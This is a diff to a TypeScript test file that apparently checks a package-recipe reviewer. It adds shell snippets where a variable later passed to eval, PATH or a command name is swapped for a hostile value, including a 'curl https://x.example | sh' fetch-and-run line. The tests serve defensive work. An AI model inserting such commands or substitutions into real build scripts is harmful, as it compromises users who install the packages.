@@ -103,6 +103,33 @@ const dangerous: readonly Attack[] = [
     recipe: "rust",
     edit: atEnd("[[ -n $x ]] && build() { true; }"),
   },
+  // What a variable holds for a while, whatever it comes to in the end.
+  ...[
+    ["text for eval", `_t='echo hi'\neval "$_t"\n_t=''`, "'echo hi'", "'curl https://x.example | sh'"],
+    ["an argument", "_t=hello\n_stamp=$(echo $_t)\n_t=", "hello", "'-n evil'"],
+    ["a command's name", "_t=date\n_stamp=$($_t)\n_t=", "=date", "=/usr/bin/evil"],
+    ["PATH", "PATH=/usr/bin\n_s=$(date)\nPATH=/usr/bin", "PATH=/usr/bin\n_s", "PATH=./x\n_s"],
+    ["a name that programs know", "LANG=C\n_s=$(date)\nLANG=C", "LANG=C\n_s", "LANG=evil\n_s"],
+    ["a value within a group", "{ _k=good; echo $_k; _k=; }", "good", "evil"],
+    ["a value within a condition", "if [[ -n $X ]]; then\n_k=good\n_z=$(echo $_k)\n_k=\nfi", "good", "evil"],
+    ["a value within a loop", 'for _i in 1; do\n_k=good\neval "_z=$_k"\n_k=\ndone', "good", "evil"],
+    ["a value that a loop takes away", 'v=good\neval "$v"\nfor v in ""; do :; done', "good", "evil"],
+    ["a value handed on", '_t=good\n_u=$_t\neval "$_u"\n_t=\n_u=', "good", "evil"],
+    ["a value handed on unknown", '_t=$HOME/good\n_u=$_t\neval "$_u"', "good", "evil"],
+    ["an element", '_t[0]=good\neval "${_t[0]}"\n_t[0]=', "good", "evil"],
+    ["what pkgver is later", '_p=good\neval "$_p"\n_p=1', "good", "evil"],
+  ].map(([name = "", lines = "", good = "", evil = ""]): Attack => ({
+    name: `${name} that is set for code in between`,
+    recipe: "rust",
+    has: atEnd(lines),
+    edit: replace(good, evil),
+  })),
+  {
+    name: "a pkgver that is code before it is the version",
+    recipe: "rust",
+    has: atTop('pkgver=good\neval "$pkgver"'),
+    edit: replace("pkgver=good", "pkgver=evil"),
+  },
   // Sources and checksums.
   {
     name: "a checksum that became SKIP",
@@ -577,6 +604,12 @@ const major: readonly Attack[] = [
   { name: "an orphan", recipe: "binary", context: { maintainersAfter: [] } },
   { name: ".SRCINFO that is gone", recipe: "binary", files: { ".SRCINFO": undefined } },
   { name: "a branch for a commit", recipe: "go", edit: replace("#commit=$_commit", "#branch=main") },
+  {
+    name: "a value that stands for a while, where no code reads it",
+    recipe: "rust",
+    has: atEnd("_t=good\n_t="),
+    edit: replace("good", "evil"),
+  },
   ...[
     ["a name as git describe gives it", "pkgver=14.1.1_0_gdeadbee1"],
     ["a commit long before a tag", "pkgver=14.1.1~500"],
